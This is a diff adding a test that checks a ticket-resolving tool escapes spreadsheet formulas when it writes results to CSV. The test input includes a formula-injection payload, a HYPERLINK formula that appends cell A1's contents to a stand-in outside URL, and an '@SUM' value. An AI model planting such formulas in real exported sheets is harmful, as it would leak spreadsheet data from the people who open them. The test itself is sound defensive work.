@@ -441,6 +441,22 @@ def test_a_sheet_of_a_do_not_record_task_leaves_the_requests_out(tmp_path: Path)
     assert "text" not in header and row[0] == "a" and "4111" not in sheet.read_text(encoding="utf-8-sig")
 
 
+def test_a_request_a_spreadsheet_would_run_as_a_formula_is_written_to_the_sheet_as_text(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"refund")'
+    tickets = tmp_path / "tickets.csv"
+    with tickets.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([["id", "text"], ["a", hostile], ["b", "@SUM(1+1)"], ["c", "where is my refund?"]])
+    with healthy_server() as server:
+        task = write_task_file(tmp_path, server.base_url)
+        sheet = tmp_path / "results.csv"
+        code, _, stderr = invoke("resolve-batch", str(tickets), "-o", str(sheet), "-t", str(task), "--json")
+    assert code == 0, stderr
+    header, *rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
+    texts = [row[header.index("text")] for row in rows]
+    assert texts == ["'" + hostile, "'@SUM(1+1)", "where is my refund?"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_results_as_a_sheet_filled_in_by_a_person_are_a_verdicts_file(tmp_path: Path) -> None:
     # tickets.csv → results.csv (empty correct and correction columns) → a person fills some rows in → gil feedback
     tickets = tmp_path / "tickets.csv"
